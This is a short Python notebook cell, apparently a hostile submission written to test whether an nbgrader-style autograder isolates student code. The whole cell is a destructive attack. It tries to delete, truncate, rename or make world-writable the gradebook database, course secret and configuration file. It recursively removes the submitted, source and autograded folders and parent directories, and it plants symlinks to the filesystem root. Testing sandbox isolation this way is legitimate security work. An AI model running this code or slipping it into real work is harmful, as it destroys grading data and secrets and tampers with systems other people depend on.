# %% first
import os
import shutil

for path in ("@COURSE@/gradebook.db", "@COURSE@/.course_secret", "../../victim/ps1/hardened.ipynb", "@COURSE@/nbgrader_config.py"):
    for act in (os.remove, lambda p: os.truncate(p, 0), lambda p: os.rename(p, p + ".gone"), lambda p: os.chmod(p, 0o777)):
        try:
            act(path)
            print("changed", path)
        except OSError as error:
            print(path, type(error).__name__)
for folder in ("@COURSE@/submitted", "@COURSE@/source", "@COURSE@/autograded", "..", "../.."):
    shutil.rmtree(folder, ignore_errors=True)
    print(folder, os.path.exists(folder))
for link in ("@COURSE@/ATTACKED", "../ATTACKED", "/ATTACKED"):
    try:
        os.symlink("/", link)
    except OSError as error:
        print(link, type(error).__name__)
